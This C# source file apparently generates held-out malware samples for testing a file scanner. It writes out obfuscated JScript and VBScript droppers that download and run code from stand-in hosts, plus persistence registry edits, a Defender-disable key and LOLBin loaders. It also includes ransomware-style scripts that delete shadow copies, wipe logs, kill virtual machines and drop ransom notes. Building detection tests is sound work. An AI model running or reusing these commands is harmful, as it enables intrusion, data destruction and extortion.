using System.Globalization;
using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>JScript of the families that arrive from the web.</summary>
public sealed class HostScriptFromTheWeb : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var code = "zu=WScript.CreateObject('WScript.Shell');zu.Run('wscript //e:jscript '+zu.ExpandEnvironmentStrings('%appdata%')+'\\\\Legal.dat')";
        yield return ("canadian_common_law_separation_(58311).js", Utf8(Fill("""
/*! Lo-Dash 2.4.1 (Custom Build) lodash.com/license | Underscore.js 1.5.2 underscorejs.org/LICENSE */
@@1
function tree4(late) { return late % 2; }
stick7 = '@@2';
@@3
function over9(where) { bear = ''; for (post = 0; post < where.length; post++) { if (tree4(post)) { bear = where.substr(post, 1) + bear; } else { bear = bear + where.substr(post, 1); } } return bear; }
century2 = over9(stick7); shine0 = [tree4, over9]; shine0[5210] = shine0[0]['cons' + 'tructor'];
shine0[5210](century2)();
@@4
""", Filler.Minified(731, 500), Shuffled(code).Replace("\\", "\\\\", StringComparison.Ordinal).Replace("'", "\\'", StringComparison.Ordinal), Filler.Minified(732, 200), Filler.Minified(733, 400))));
        yield return ("Update.js", Utf8("""
var h='https://pull.static-report.example/updateAssets';
try{
var x = new ActiveXObject('MSXML2.XMLHTTP');
x['open']('POST', h, false);
x['send']('lpZw+wmbGiagWaoqNM/HGQ==' + Math.random());
this['eval'](x['responseText']);
}catch(e){}
"""));
        yield return ("Invoice_November.js", Utf8(Fill("""
// @@1
var ЖтЯ = [@@2], ёлка = "";
for (var 雪 = 0; 雪 < ЖтЯ.length; 雪++) { ёлка += String["fromChar" + "Code"](ЖтЯ[雪] / 3 - 7); }
var сосна = this["Active" + "XObject"], дуб = new сосна("Sh" + "ell.Appl" + "ication");
// @@3
дуб["Shell" + "Execute"]("cmd.exe", ёлка, "", "op" + "en", 0);
""", Filler.Prose(734, 400).Replace("\n", "\n// ", StringComparison.Ordinal), string.Join(',', "/c curl -k -o %tmp%\\n.ps1 https://nov.js-uni.example/n && powershell -ep bypass -f %tmp%\\n.ps1".Select(letter => (letter + 7) * 3)), Filler.Prose(735, 400).Replace("\n", "\n// ", StringComparison.Ordinal))));
        yield return ("Document_i19_4AC.js", Dos(Fill("""
////@@1
// var installer = new ActiveXObject("WindowsInstaller.Installer");
var fso=new ActiveXObject("Scripting.FileSystemObject"),t=fso.OpenTextFile(WScript.ScriptFullName,1),s=t.ReadAll().split("\r\n"),c="";t.Close();
for(var i=0;i<s.length;i++){if(s[i].substr(0,4)=="////"&&s[i].length>60){c+=s[i].substr(4).replace(/[^A-Za-z0-9(){};:=.,"'\/ _-]/g,"")}}
(new Function(c.split("").reverse().join("")))();
////@@2
////@@3
""", Convert.ToHexString(Filler.Noise(736, 20)), Noisy(Backwards("var a=new ActiveXObject(\"WindowsInstaller.Installer\");a.UILevel=2;a.InstallProduct(\"https://i19.comment-js.example/neo.msi\");")), Convert.ToHexString(Filler.Noise(737, 20)))));
    }

    // Every second letter from the end, as such scripts weave them.
    private static string Shuffled(string text)
    {
        var (front, back) = ("", "");
        for (var at = 0; at < text.Length; at++)
            if (at % 2 == 0)
                front += text[at];
            else
                back += text[at];
        return front + back;
    }

    private static string Noisy(string text) => string.Concat(text.Select((letter, at) => at % 3 == 0 ? $"{letter}§" : letter.ToString()));
}

/// <summary>VBScript of the loaders for remote control tools.</summary>
public sealed class BasicScriptOfLoaders : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Factura_pendiente_de_pago.vbs", Utf16(Fill("""
' @@1
Dim gOvNj, rJkSc
gOvNj = "@@2"
rJkSc = Replace(gOvNj, "⌚☼▲", "")
Set QnTaU = CreateObject(StrReverse("llehS.tpircSW"))
QnTaU.Run "p" & "owershel" & "l -command $Codigo = '" & rJkSc & "';$OWjuxd = [system.Text.encoding]::Unicode.GetString([system.convert]::FromBase64String($Codigo));powershell.exe -windowstyle hidden -executionpolicy bypass -NoProfile -command $OWjuxd", 0, False
""", Filler.Prose(741, 120).Replace("\n", "\n' ", StringComparison.Ordinal), string.Join("⌚☼▲", Encoded("iex (New-Object Net.WebClient).DownloadString('https://remcos.carga-vbs.example/dll.txt')").Chunk(9).Select(part => new string(part))))));
        yield return ("SWIFT_MT103.vbe", ScriptEncoder.Encode("Dim o\r\nSet o = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\no.Open \"GET\", \"https://mt103.vbe-load.example/a\", False\r\no.Send\r\nExecuteGlobal o.ResponseText\r\n"));
        yield return ("Leveringsnota.vbs", Dos(Fill("""
Rem @@1
Function Overflade(Tegn)
For Kamp = 4 To Len(Tegn) Step 5
Overflade = Overflade & Mid(Tegn, Kamp, 1)
Next
End Function
Kaproning = Overflade("@@2")
Rem @@3
Set Vandfald = CreateObject(Overflade("@@4"))
Vandfald.ShellExecute "powershell", Kaproning, "", "open", 0
""", Filler.Prose(742, 500).Replace("\n", "\nRem ", StringComparison.Ordinal), Woven("$x=(irm https://guld.vbs-load.example/Skrm.xtp);iex $x"), Filler.Prose(743, 500).Replace("\n", "\nRem ", StringComparison.Ordinal), Woven("Shell.Application"))));
        yield return ("scan_copy.vbs", Dos(Fill("""""
a=Array(@@1)
For i=0 To UBound(a):b=b&Chr(a(i)-@@2):Next
Execute b
Set s=CreateObject("WScript.Shell"):s.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\AnyScan","wscript.exe //B """ & WScript.ScriptFullName & """"
CreateObject("Scripting.FileSystemObject").CopyFile WScript.ScriptFullName, s.SpecialFolders("Startup") & "\"
""""", Codes("Set h=CreateObject(\"Microsoft.XMLHTTP\"):h.open \"POST\",\"http://wsh.vbs-load.example:7974/is-ready\",False:h.setRequestHeader \"User-Agent\",\"WSHRAT|\"&CreateObject(\"WScript.Network\").ComputerName:h.send:Execute h.responseText", 1985), "1985")));
    }

    private static string Woven(string text) => string.Concat(text.Select((letter, at) => string.Create(CultureInfo.InvariantCulture, $"{(char)('a' + (at % 26))}K{at % 10}{(letter == '"' ? "\"\"" : letter.ToString())}v")));
}

/// <summary>Files that honest programs of Windows carry out.</summary>
public sealed class FileForHonestPrograms : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("ieuinit.inf", Dos("[Version]\nSignature=$CHICAGO$\nAdvancedINF=2.5\n[DefaultInstall_SingleUser]\nUnRegisterOCXs=UnRegisterOCXSection\nRunPreSetupCommands=Pre\n[UnRegisterOCXSection]\n%11%\\scrobj.dll,NI,https://inf.lol-file.example/b.sct\n[Pre]\npowershell -w hidden -c \"iwr https://inf.lol-file.example/p|iex\"\ntaskkill /IM cmstp.exe /F\n[Strings]\nAppAct = \"SOFTWARE\\Microsoft\\Connection Manager\"\nServiceName=\"VPN\"\nShortSvcName=\"VPN\"\n"));
        yield return ("build.xml", Utf8(Fill("""
<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <Target Name="Hello"><ClassExample /></Target>
  <UsingTask TaskName="ClassExample" TaskFactory="CodeTaskFactory" AssemblyFile="C:\Windows\Microsoft.Net\Framework\v4.0.30319\Microsoft.Build.Tasks.v4.0.dll"><Task><Code Type="Class" Language="cs"><![CDATA[
using System; using System.Runtime.InteropServices; using Microsoft.Build.Framework; using Microsoft.Build.Utilities;
public class ClassExample : Task, ITask {
  [DllImport("kernel32")] static extern UInt32 VirtualAlloc(UInt32 a, UInt32 s, UInt32 t, UInt32 p);
  [DllImport("kernel32")] static extern IntPtr CreateThread(UInt32 a, UInt32 s, UInt32 f, IntPtr p, UInt32 c, ref UInt32 i);
  public override bool Execute() { byte[] shellcode = new byte[] { @@1 }; UInt32 f = VirtualAlloc(0, (UInt32)shellcode.Length, 0x1000, 0x40); Marshal.Copy(shellcode, 0, (IntPtr)f, shellcode.Length); /* placeholder: zeros only */ return true }
}
]]></Code></Task></UsingTask></Project>
""", string.Join(", ", Enumerable.Repeat("0x00", 320)))));
        yield return ("persist.reg", Utf16("""
Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\Software\Classes\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32]
@="C:\\Users\\Public\\Libraries\\mmdevapi.dll"
"ThreadingModel"="Both"

[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
"EdgeUpdate"="mshta.exe \"javascript:w=new ActiveXObject('WScript.Shell');w.Run('powershell -w 1 iex(gp HKCU:Software\\\\Edge u).u',0);close()\""

[HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe]
"Debugger"="C:\\Windows\\System32\\cmd.exe"

[HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender]
"DisableAntiSpyware"=dword:00000001
"""));
        yield return ("Teams_Setup.application", Utf8("""
<?xml version="1.0" encoding="utf-8"?>
<asmv1:assembly manifestVersion="1.0" xmlns="urn:schemas-microsoft-com:asm.v2" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" xmlns:asmv2="urn:schemas-microsoft-com:asm.v2">
  <assemblyIdentity name="Microsoft Teams.application" version="1.0.0.0" publicKeyToken="0000000000000000" language="neutral" processorArchitecture="msil" xmlns="urn:schemas-microsoft-com:asm.v1"/>
  <description asmv2:publisher="Microsoft" asmv2:product="Microsoft Teams" xmlns="urn:schemas-microsoft-com:asm.v1"/>
  <deployment install="false" trustURLParameters="true"><deploymentProvider codebase="https://teams.once-click.example/Teams.application"/></deployment>
  <dependency><dependentAssembly dependencyType="install" codebase="Application Files\Teams_1_0_0_0\dfsvc_loader.exe.manifest" size="9123"><assemblyIdentity name="dfsvc_loader.exe" version="1.0.0.0" type="win32"/></dependentAssembly></dependency>
</asmv1:assembly>
"""));
    }
}

/// <summary>Scripts and notes of people who lock files. What would encrypt is missing.</summary>
public sealed class ScriptThatLocks : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("lock.ps1", Dos("""
Get-Service | ? { $_.Name -match 'sql|veeam|backup|exchange|vss|sophos' } | Stop-Service -Force
Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
bcdedit /set '{default}' recoveryenabled No; wbadmin delete catalog -quiet
$key = [byte[]]::new(32)
Get-PSDrive -PSProvider FileSystem | % { gci $_.Root -Recurse -Include *.docx,*.xlsx,*.pdf,*.vmdk,*.bak,*.sql -EA 0 | % { Protect-Placeholder $_ $key; Rename-Item $_ ($_.Name + '.l0cked') } }
"All your files have been encrypted and stolen. Contact us via Tor: http://exampleexampleexample.onion.example. ID: $env:COMPUTERNAME. If you do not pay in 72 hours the data will be published." | Out-File "$env:PUBLIC\Desktop\RESTORE_FILES.txt"
rundll32 user32.dll,UpdatePerUserSystemParameters; shutdown /r /t 60
"""));
        yield return ("esxi.sh", Utf8("""
#!/bin/sh
# unlock1 unlock2
for i in $(esxcli vm process list | grep 'World ID' | awk '{print $3}'); do esxcli vm process kill -t=force -w=$i; done
esxcli system syslog config set --logdir=/tmp; /etc/init.d/vmsyslogd stop
vim-cmd vmsvc/getallvms | awk '{print $1}' | while read v; do vim-cmd vmsvc/snapshot.removeall $v; done
chmod +x /tmp/encrypt
for f in $(find /vmfs/volumes -name '*.vmdk' -o -name '*.vmx' -o -name '*.vmsn'); do nohup /tmp/encrypt /tmp/public.pem "$f" 15 90 10 >/dev/null 2>&1 & done
mv /usr/lib/vmware/hostd/docroot/ui/index.html /usr/lib/vmware/hostd/docroot/ui/index1.html; cp /tmp/How_to_Restore_Your_Files.html /usr/lib/vmware/hostd/docroot/ui/index.html
sed -i '$d' /var/spool/cron/crontabs/root; rm -f /tmp/encrypt /tmp/nohup.out /tmp/archieve.zip; /bin/find / -name '*.log' -exec /bin/rm -rf {} \;
"""));
        yield return ("README_TO_DECRYPT.hta", Dos(Fill("""
<html><head><title>encrypted</title><HTA:APPLICATION BORDER="none" ICON="#" SHOWINTASKBAR="no" SINGLEINSTANCE="yes" WINDOWSTATE="maximize" scroll="yes"/>
<style>body{background:#c00;color:#fff;font-family:Tahoma}.c{background:#600;padding:10px}</style><script>function document.onkeydown(){if(event.keyCode==116||event.altKey){event.keyCode=0;return false}}</script></head>
<body><h1>All your files have been encrypted!</h1><div class="c">All your files have been encrypted due to a security problem with your PC. If you want to restore them, write us to the e-mail <b>helpdecrypt@onion-post.example</b><br>Write this ID in the title of your message <b>@@1</b><br>You have to pay for decryption in Bitcoins. The price depends on how fast you write to us.</div>
<h3>Free decryption as guarantee</h3><p>Before paying you can send us up to 3 files for free decryption.</p><h3>Attention!</h3><ul><li>Do not rename encrypted files.</li><li>Do not try to decrypt your data using third party software.</li></ul></body></html>
""", Convert.ToHexString(Filler.Noise(750, 4)))));
        yield return ("start.bat", Dos("""
@echo off
for %%s in (MSSQLSERVER SQLWriter VeeamBackupSvc "QuickBooksDB29" vds swprv WinDefend) do (sc config %%s start= disabled & net stop %%s /y) >nul 2>&1
taskkill /f /im sqlservr.exe /im outlook.exe /im winword.exe >nul 2>&1
vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB & vssadmin delete shadows /all /quiet
wmic shadowcopy delete /nointeractive
fsutil usn deletejournal /D C: & for /F "tokens=*" %%G in ('wevtutil.exe el') DO wevtutil.exe cl "%%G"
netsh advfirewall set allprofiles state off
PsExec.exe -accepteula @hosts.txt -s -d -c -f locker.exe -access-token %1
"%ProgramFiles%\BitLocker\manage-bde.exe" -on C: -pw -used >nul 2>&1
"""));
    }
}
